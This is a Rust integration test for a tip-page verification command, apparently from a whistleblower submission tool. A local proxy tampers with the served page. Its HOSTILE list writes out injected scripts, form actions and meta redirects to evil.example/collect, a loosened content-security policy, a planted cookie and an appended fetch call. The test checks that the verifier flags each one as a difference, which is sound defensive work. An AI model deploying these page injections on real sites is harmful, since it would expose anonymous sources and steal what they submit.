//! `tips verify-page` in front of a server that serves another page than ours.

use std::{
    io::{Read, Write},
    net::{TcpListener, TcpStream},
    sync::{Arc, Mutex},
    thread,
};

use super::{
    place::{Place, Said, Server},
    tips,
};

/// What stands between: a path, words of the answer to it, and what stands in their place.
type Change = (&'static str, &'static str, &'static str);

/// A server in front of ours that changes one answer.
struct Proxy {
    address: String,
    change: Arc<Mutex<Change>>,
}

impl Proxy {
    fn of(server: &Server) -> Proxy {
        let listener = TcpListener::bind("127.0.0.1:0").unwrap();
        let address = listener.local_addr().unwrap().to_string();
        let change = Arc::new(Mutex::new(("", "", "")));
        let (behind, said) = (server.address.clone(), change.clone());
        thread::spawn(move || {
            for stream in listener.incoming().flatten() {
                let change = *said.lock().unwrap();
                // Who looks may hang up before the end.
                let _ = pass_on(stream, &behind, change);
            }
        });
        Proxy { address, change }
    }
}

fn pass_on(mut stream: TcpStream, behind: &str, (path, words, others): Change) -> std::io::Result<()> {
    let mut request = Vec::new();
    let mut some = [0; 4096];
    while !request.windows(4).any(|w| w == b"\r\n\r\n") {
        match stream.read(&mut some)? {
            0 => return Ok(()),
            count => request.extend_from_slice(&some[..count]),
        }
    }
    let asked = String::from_utf8_lossy(&request).split_whitespace().nth(1).unwrap_or_default().to_owned();
    let mut server = TcpStream::connect(behind)?;
    server.write_all(format!("GET {asked} HTTP/1.0\r\nHost: {behind}\r\n\r\n").as_bytes())?;
    let mut answer = Vec::new();
    server.read_to_end(&mut answer)?;
    let end = answer.windows(4).position(|w| w == b"\r\n\r\n").unwrap();
    let (head, body) = (String::from_utf8(answer[..end].to_vec()).unwrap(), &answer[end..]);
    // Lengths change, and the end of the connection says the same.
    let mut head: String =
        head.lines().filter(|line| !line.starts_with("content-length")).fold(String::new(), |all, line| {
            if all.is_empty() { line.replace("HTTP/1.0", "HTTP/1.1") } else { all + "\r\n" + line }
        });
    head.push_str("\r\nconnection: close");
    if asked != path {
        stream.write_all(head.as_bytes())?;
        return stream.write_all(body);
    }
    let whole = head + std::str::from_utf8(body).unwrap();
    assert!(whole.contains(words), "{words:?} is not in the answer of {path}: {whole}");
    stream.write_all(whole.replacen(words, others, 1).as_bytes())
}

/// Each is a way to take a source's words or codename that a browser would go.
const HOSTILE: &[Change] = &[
    ("/tip", "<script src=", "<SCRIPT SRC=\"/theme/evil.js\"></SCRIPT><script src="),
    ("/tip", "<script src=", "<script\nsrc=/theme/evil2.js></script><script src="),
    ("/tip", "<script src=", "<script type=module src='/tip/assets/tip.js'></script><script src="),
    ("/tip", "</head>", "<base href=https://evil.example></head>"),
    ("/tip", "</head>", "<meta http-equiv=\"Refresh\" content=\"0;url=https://evil.example\"></head>"),
    ("/tip", "</head>", "<link rel=preconnect href=//evil.example></head>"),
    ("/tip", "action=\"/tip\"", "action=\"https://evil.example/collect\""),
    ("/tip", "action=\"/tip\"", "ACTION='https://evil.example/collect' action=\"/tip\""),
    ("/tip", "<form id=\"tip-form\"", "<form action=/search><form id=\"tip-form\""),
    ("/tip", "type=\"submit\"", "type=\"submit\" formaction=//evil.example"),
    ("/tip", "</article>", "<iframe src=/theme/x></iframe></article>"),
    ("/tip", "</article>", "<svg><style><script src=/theme/x.js></script></style></svg></article>"),
    ("/tip", "</article>", "</article><input name=text form=tip-form>"),
    ("/tip", "</article>", "<p><a href=\"https://evil.example\">Write here</a></p></article>"),
    ("/tip", "<input type=\"hidden\" name=\"token\"", "<input name=dataset><input type=\"hidden\" name=\"token\""),
    ("/tip", "data-worker-url=\"/tip/assets/", "data-worker-url=\"/theme/"),
    ("/tip", "data-newsroom-key=\"", "data-newsroom-key=\"00"),
    ("/tip", "class=\"tip-fingerprint\" dir=\"ltr\">", "class=\"tip-fingerprint\" dir=\"ltr\">0"),
    ("/tip", " id=\"tip-form\"", " onsubmit=x() id=\"tip-form\""),
    ("/tip", "connect-src 'self'", "script-src-elem * 'unsafe-inline'; connect-src *"),
    ("/tip", "form-action 'self'", "form-action *"),
    ("/tip", "cache-control: no-store", "cache-control: no-store\r\nset-cookie: who=you"),
    ("/tip?lang=de", "action=\"/tip?lang=de\"", "action=\"/theme/collect\""),
    ("/tip/return", "action=\"/tip/return\"", "action=\"/theme/collect\""),
    ("/tip/return", "name=\"codename\"", "name=\"text\""),
    ("/tip/return", "id=\"return-form\"", "id=\"form\""),
    ("/tip/assets/sealed.js", "connect-src 'self'", "connect-src *"),
    ("/tip/assets/tip.js", "\r\n\r\n", "\r\n\r\nfetch('/theme/evil');"),
];

#[test]
fn a_page_that_could_take_words_or_codename_is_found_to_differ() {
    let place = Place::new();
    let fingerprint = tips::open(&place);
    let server = Server::of(&place, "news");
    let proxy = Proxy::of(&server);
    let verify = |change: Change| -> Said {
        *proxy.change.lock().unwrap() = change;
        place.run(&["tips", "verify-page", &format!("http://{}", proxy.address), "--fingerprint", &fingerprint])
    };
    let honest = verify(("", "", ""));
    assert!(honest.done().out.contains("Nothing differs"), "{honest:?}");
    for change in HOSTILE {
        let said = verify(*change);
        let named = said.out.lines().any(|line| line.starts_with("DIFFERS") && line.contains(change.0));
        assert!(said.code == Some(1) && named, "{change:?}: {said:?}");
    }
    assert_eq!(server.stop("TERM"), Some(0));
}
